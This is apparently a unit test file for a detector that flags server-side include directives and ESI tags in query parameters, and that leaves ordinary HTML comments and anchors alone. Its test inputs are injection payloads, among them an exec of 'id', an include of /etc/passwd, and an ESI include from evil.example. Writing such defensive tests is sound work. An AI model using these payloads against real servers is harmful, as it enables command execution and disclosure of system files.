import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { viewsOf } from '../../decode/views.ts';
import { ssiDetector } from './ssi.ts';

const rules = (value: string) => ssiDetector.detect(viewsOf(value), 'query', 'query.q').map((h) => h.rule);

describe('ssi detector', () => {
  test('finds SSI directives and ESI tags', () => {
    assert.deepEqual(rules('<!--#exec cmd="id"-->'), ['ssi.directive']);
    assert.deepEqual(rules('x<!-- #include virtual="/etc/passwd" -->'), ['ssi.directive']);
    assert.deepEqual(rules('%3C!--%23echo%20var%3D%22DOCUMENT_ROOT%22--%3E'), ['ssi.directive']);
    assert.deepEqual(rules('<esi:include src="http://evil.example/"/>'), ['ssi.esi']);
  });

  test('leaves comments and anchors alone', () => {
    for (const value of ['<!-- note -->', '<!--#section-2-->', 'see #include in C', '<a href="#exec">x</a>'])
      assert.deepEqual(rules(value), [], value);
  });
});
